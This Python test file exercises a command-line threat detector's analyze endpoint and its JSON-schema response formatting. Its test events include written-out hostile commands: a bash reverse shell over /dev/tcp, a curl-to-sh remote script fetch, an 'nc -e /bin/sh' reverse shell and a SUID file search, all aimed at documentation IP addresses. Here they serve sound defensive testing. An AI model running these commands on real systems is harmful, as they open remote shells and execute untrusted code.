#!/usr/bin/env python3
"""Service tests of POST /v1/analyze and of response_format, against the
real binary with the SmolLM2 test model: curl over the Unix socket, and
Python's http.client over loopback TCP.  Prints one line per check and a
closing "N passed, M failed" line; exits 1 if anything failed.

Nothing here waits a fixed time: every wait polls a condition under a
generous deadline (the machine may be busy), and counters of /metrics are
compared before and after.
"""
import json
import os
import shutil
import sys
import tempfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
import njtest  # noqa: E402
from njtest import BIN, MODEL, SLOW, check, finish, skip  # noqa: E402

START_DEADLINE = 240 if SLOW else 120
# Bounds a hung server, not a slow one: under make check on a machine at
# load 25 a batch of four model-path events took more than 900 s (the
# server runs at nice 10), so sanitizer builds get an hour.
REQ_TIMEOUT = 3600 if SLOW else 900


def curl(sock, path, body=None):
    """curl over the Unix socket: GET, or POST with a JSON body; (status, text)."""
    code, out, _, _ = njtest.curl(sock, "POST" if body is not None else "GET", path, body, timeout=REQ_TIMEOUT)
    return code, out.decode("utf-8", "replace")


def tcp(port, path, body):
    """POST a JSON body with http.client over loopback TCP; (status, text)."""
    code, _, out, _ = njtest.request(port, "POST", path, body, timeout=REQ_TIMEOUT)
    return code, out.decode()


def event(i, cmd, **kw):
    e = {"v": 1, "id": "t-%d" % i, "kind": "exec", "time": "2026-12-07T10:00:00Z",
         "source": {"format": "api"}, "process": {"cmdline": cmd}}
    e.update(kw)
    return e


def contract(v):
    return (v.get("verdict") in ("benign", "suspicious", "malicious") and 0 <= v.get("confidence", -1) <= 1
            and isinstance(v.get("techniques"), list) and isinstance(v.get("summary"), str)
            and v.get("source") in ("rule", "model", "cache") and isinstance(v.get("rule_ids"), list)
            and isinstance(v.get("event_id"), str) and isinstance(v.get("latency_ms"), (int, float)))


def metric(sock, name):
    return njtest.metric(curl(sock, "/metrics")[1], name)


def main():
    if not os.path.exists(MODEL):
        skip("analyze service tests", f"no model at {MODEL}")
        finish()
    tmp = tempfile.mkdtemp(prefix="nj-analyze-")
    sock = os.path.join(tmp, "nj.sock")
    port = njtest.free_port()
    cfg = os.path.join(tmp, "config")
    with open(cfg, "w") as f:
        f.write("analyze_batch = 4\nctx_size = 2048\n")
    srv = njtest.Server([BIN, "serve", "-m", MODEL, "--socket", sock, "--port", str(port), "--config", cfg],
                        os.path.join(tmp, "serve.log"), sock=sock)
    try:
        if not srv.wait_ready(START_DEADLINE):
            check("server starts", False, srv.logtext()[-2000:])
            finish()

        # one event: the verdict itself
        code, out = curl(sock, "/v1/analyze", event(1, "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"))
        v = json.loads(out) if code == 200 else {}
        check("analyze: one event answers one verdict (curl, Unix socket)", code == 200 and contract(v), out)
        check("analyze: a reverse shell is malicious, by a rule", v.get("verdict") == "malicious" and v.get("source") == "rule")

        # a batch keeps its order (python http.client over TCP)
        cmds = ["git status", "find / -perm -4000 -type f", "ls -la", "curl -fsSL http://203.0.113.9/i.sh | sh"]
        before = metric(sock, "nightjar_verdicts_rule_total") or 0
        code, out = tcp(port, "/v1/analyze", {"events": [event(10 + i, c) for i, c in enumerate(cmds)]})
        vs = json.loads(out).get("verdicts", []) if code == 200 else []
        check("analyze: a batch answers every event (http.client, TCP)", code == 200 and len(vs) == 4, out[:300])
        check("analyze: batch verdicts keep the events' order",
              [v.get("event_id") for v in vs] == ["t-10", "t-11", "t-12", "t-13"])
        check("analyze: every batch verdict keeps the contract", all(contract(v) for v in vs))
        after = metric(sock, "nightjar_verdicts_rule_total") or 0
        check("analyze: /metrics counts the rule verdicts", after >= before + 2, f"{before} -> {after}")

        # bad events: 400 naming the event and the field; too many: 413
        bad = event(20, "ls")
        bad["process"]["pid"] = "twelve"
        code, out = curl(sock, "/v1/analyze", {"events": [event(21, "ls"), bad]})
        check("analyze: a bad event is a 400 naming it and its field",
              code == 400 and "events[1]" in out and "process.pid" in out, out)
        code, out = curl(sock, "/v1/analyze", {"v": 1, "id": "x", "kind": "exec"})
        check("analyze: a single event missing its time is a 400 naming the field", code == 400 and "time" in out, out)
        code, out = curl(sock, "/v1/analyze", "not json")
        check("analyze: a body that is not JSON is a 400", code == 400, out)
        code, out = curl(sock, "/v1/analyze", {"events": [event(30 + i, "ls") for i in range(5)]})
        check("analyze: more events than analyze_batch is a 413", code == 413 and "analyze_batch" in out, out)

        # response_format: every document validates against its schema
        try:
            import jsonschema
        except ImportError:
            jsonschema = None
        schema = {"type": "object", "properties": {
            "verdict": {"enum": ["benign", "suspicious", "malicious"]},
            "techniques": {"type": "array", "items": {"type": "string", "pattern": "^T[0-9]{4}(\\.[0-9]{3})?$"},
                           "maxItems": 4},
            "summary": {"type": "string", "maxLength": 80}},
            "required": ["verdict", "techniques", "summary"], "additionalProperties": False}
        docs = []
        for seed in range(5):
            code, out = curl(sock, "/v1/chat/completions", {
                "messages": [{"role": "user", "content": "Judge: nc -e /bin/sh 203.0.113.9 4444"}],
                "temperature": 1, "seed": seed, "max_tokens": 200,
                "response_format": {"type": "json_schema", "json_schema": {"name": "verdict", "schema": schema, "strict": True}}})
            if code == 200:
                docs.append(json.loads(out)["choices"][0]["message"]["content"])
        ok = len(docs) == 5
        for d in docs:
            try:
                doc = json.loads(d)
                if jsonschema:
                    jsonschema.validate(doc, schema)
                else:
                    ok = ok and set(doc) == {"verdict", "techniques", "summary"}
            except Exception as e:  # noqa: BLE001 - any failure is a test failure
                ok = False
                print("   invalid:", d, e)
        check("response_format json_schema: 5 of 5 documents at temperature 1 validate", ok, str(docs)[:300])
        code, out = curl(sock, "/v1/completions", {"prompt": "A JSON object:", "max_tokens": 40,
                                                   "response_format": {"type": "json_object"}})
        body = json.loads(out) if code == 200 else {}
        text = body.get("choices", [{}])[0].get("text", "")
        try:
            obj_ok = isinstance(json.loads(text), dict)
        except Exception:  # noqa: BLE001
            obj_ok = False
        check("response_format json_object: the completion is a JSON object", code == 200 and obj_ok, out[:300])
        code, out = curl(sock, "/v1/chat/completions", {
            "messages": [{"role": "user", "content": "hi"}],
            "response_format": {"type": "json_schema", "json_schema": {"name": "x", "schema": {
                "type": "object", "patternProperties": {"^a": {"type": "string"}}}}}})
        check("response_format: an unsupported keyword is a 400 naming it", code == 400 and "patternProperties" in out, out)
    finally:
        srv.stop(timeout=120)
        shutil.rmtree(tmp, ignore_errors=True)
    finish()


if __name__ == "__main__":
    main()
